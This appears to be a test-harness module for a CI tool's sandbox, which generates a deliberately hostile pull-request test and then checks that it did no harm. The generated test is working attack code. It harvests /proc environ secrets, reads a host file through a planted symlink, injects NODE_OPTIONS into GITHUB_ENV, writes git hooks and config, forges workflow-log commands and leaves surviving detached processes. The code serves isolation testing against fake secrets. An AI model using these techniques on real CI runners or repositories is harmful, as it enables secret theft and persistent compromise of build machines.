/**
 * A pull request that attacks the machine it is measured on: its own test (related to the module it
 * changes, so TestMaster runs it) tries everything a hostile test can do from inside the job, and the
 * checks that nothing it tried did harm. Used by the isolation tests at every level.
 *
 * What the hostile test tries:
 * - secrets: every /proc/<pid>/environ and cmdline it can see, its parents' up the chain, a host file
 *   through a symlink the pull request planted in the repository, the same file directly;
 * - writes: a world-writable host directory, a stand-in for ~/.bashrc, GITHUB_ENV (NODE_OPTIONS for
 *   every later step), the repository's package.json, .env and dist/ (ignored files), .git/config,
 *   info/attributes and a hook, a new file in node_modules;
 * - the Actions log: a workflow command written to every visible process's stdout and stderr;
 * - survivors: a detached process with an empty environment, and one in a new session;
 * - the network: a connection to a server on the host's 127.0.0.1;
 * - its working directory and a chmod of a repository file.
 */
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';

export interface HostileSetup {
  /** Every fake secret of the run contains it. */
  readonly secretMark: string;
  /** What the hostile test writes, prints and names its processes with. */
  readonly mark: string;
  /** A host directory anyone may write (0777), outside the repository. */
  readonly hostDir: string;
  /** A host file holding a secret, readable by all, that a planted symlink points to. */
  readonly hostSecretFile: string;
  /** A stand-in for ~/.bashrc. */
  readonly homeFile: string;
  /** The GITHUB_ENV file of the (simulated) job. */
  readonly githubEnv: string;
  readonly server: { readonly port: number; readonly connections: () => number; close(): Promise<void> };
  cleanup(): Promise<void>;
}

export async function hostileSetup(): Promise<HostileSetup> {
  const id = randomBytes(6).toString('hex');
  const hostDir = mkdtempSync(join(tmpdir(), 'testmaster-host-'));
  chmodSync(hostDir, 0o777);
  const secretMark = `tm-secret-${id}`;
  const hostSecretFile = join(hostDir, 'credentials');
  writeFileSync(hostSecretFile, `${secretMark}-file\n`, { mode: 0o644 });
  const homeFile = join(hostDir, 'bashrc');
  writeFileSync(homeFile, '# the user shell profile\n', { mode: 0o666 });
  const githubEnv = join(hostDir, 'github-env');
  writeFileSync(githubEnv, '', { mode: 0o666 });
  let connections = 0;
  const server: Server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const closeServer = (): Promise<void> => new Promise((resolve) => server.close(() => resolve()));
  return {
    secretMark,
    mark: `tm-pwned-${id}`,
    hostDir,
    hostSecretFile,
    homeFile,
    githubEnv,
    server: { port, connections: () => connections, close: closeServer },
    cleanup: async () => {
      await closeServer().catch(() => undefined);
      killSurvivors(`tm-pwned-${id}`);
      rmSync(hostDir, { recursive: true, force: true });
    },
  };
}

/** The hostile test file (Vitest, TypeScript) and the symlink the pull request adds. */
export function hostileFiles(setup: HostileSetup, importLine: string): { files: Record<string, string>; links: Record<string, string> } {
  const params = JSON.stringify({
    secretMark: setup.secretMark,
    mark: setup.mark,
    hostDir: setup.hostDir,
    hostSecretFile: setup.hostSecretFile,
    homeFile: setup.homeFile,
    githubEnv: setup.githubEnv,
    port: setup.server.port,
  });
  const test = `${importLine}
import { it } from 'vitest';
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';

const P = ${params};

it('does nothing wrong, honestly', async () => {
  const loot: string[] = [];
  const pids = fs.readdirSync('/proc').filter((entry) => /^\\d+$/.test(entry));
  for (const pid of pids) {
    for (const file of ['environ', 'cmdline']) {
      try {
        const text = fs.readFileSync('/proc/' + pid + '/' + file, 'latin1');
        if (text.includes(P.secretMark)) loot.push(text.split('\\0').join(' '));
      } catch {}
    }
  }
  try {
    let pid = process.ppid;
    for (let i = 0; i < 30 && pid > 1; i++) {
      const text = fs.readFileSync('/proc/' + pid + '/environ', 'latin1');
      if (text.includes(P.secretMark)) loot.push(text.split('\\0').join(' '));
      const stat = fs.readFileSync('/proc/' + pid + '/stat', 'utf8');
      pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    }
  } catch {}
  for (const file of ['planted-link', P.hostSecretFile]) {
    try { loot.push(fs.readFileSync(file, 'utf8')); } catch {}
  }
  const note = 'NODE_OPTIONS=--require=/tmp/' + P.mark + '.js ' + P.mark + ' ' + loot.join(' | ') + '\\n';
  const targets = [
    path.join(P.hostDir, 'loot-' + P.mark), P.homeFile, P.githubEnv,
    'package.json', '.env', 'dist/' + P.mark + '.js',
    '.git/config', '.git/info/attributes', '.git/hooks/post-checkout',
    'node_modules/.testmaster-attack-' + P.mark,
  ];
  for (const target of targets) {
    try { fs.mkdirSync(path.dirname(target), { recursive: true }); } catch {}
    try { fs.appendFileSync(target, note); } catch {}
  }
  for (const pid of pids) {
    for (const fd of [1, 2]) {
      try { fs.appendFileSync('/proc/' + pid + '/fd/' + fd, '\\n::warning::' + P.mark + '\\n'); } catch {}
    }
  }
  const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', P.mark + '-detached'], { detached: true, env: {}, stdio: 'ignore' });
  child.unref();
  try {
    const grand = spawn('/bin/sh', ['-c', '(setsid "$0" -e "setInterval(() => {}, 1000)" "$1" &)', process.execPath, P.mark + '-session'], { env: {}, stdio: 'ignore' });
    grand.unref();
  } catch {}
  await new Promise((resolve) => {
    const socket = net.connect(P.port, '127.0.0.1');
    socket.on('connect', () => { socket.end(P.mark); resolve(null); });
    socket.on('error', () => resolve(null));
    setTimeout(() => resolve(null), 3000);
  });
  try { fs.chmodSync('package.json', 0o777); } catch {}
  try { process.chdir('/'); } catch {}
  await new Promise((resolve) => setTimeout(resolve, 300));
  console.log('::warning::' + P.mark + ' ' + loot.join(' | '));
});
`;
  return { files: { 'test/hostile.test.ts': test }, links: { 'planted-link': setup.hostSecretFile } };
}

/** Processes of this machine whose command line carries the mark (none may outlive a run). */
export function survivors(mark: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (readFileSync(`/proc/${entry}/cmdline`, 'latin1').includes(mark)) found.push(Number(entry));
    } catch {
      // gone
    }
  }
  return found;
}

function killSurvivors(mark: string): void {
  for (const pid of survivors(mark)) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      // gone
    }
  }
}

/** Every file under the host directory that holds the mark or a secret (none may). */
export function hostFilesWith(setup: HostileSetup, needles: readonly string[]): string[] {
  const hits: string[] = [];
  const walk = (dir: string): void => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const full = join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (entry.isFile() && full !== setup.hostSecretFile && needles.some((needle) => readFileSync(full, 'latin1').includes(needle))) hits.push(full);
    }
  };
  walk(setup.hostDir);
  return hits;
}

/** The repository files the hostile test tries to change, with their bytes and modes now. */
export function repoState(dir: string): Record<string, string> {
  const state: Record<string, string> = {};
  for (const file of ['package.json', '.env', `dist`, '.git/config', '.git/info/attributes', '.git/hooks/post-checkout', 'node_modules']) {
    const full = join(dir, file);
    if (!existsSync(full)) {
      state[file] = 'absent';
      continue;
    }
    const info = statSync(full);
    // TestMaster itself leaves node_modules/.vite-temp (empty, as Vite would): the sandbox binds a directory of the run on it.
    const listing = () => readdirSync(full).filter((name) => name !== '.vite-temp').sort().join(',');
    state[file] = info.isDirectory() ? `dir ${listing()}` : `${(info.mode & 0o777).toString(8)} ${readFileSync(full, 'utf8')}`;
  }
  return state;
}

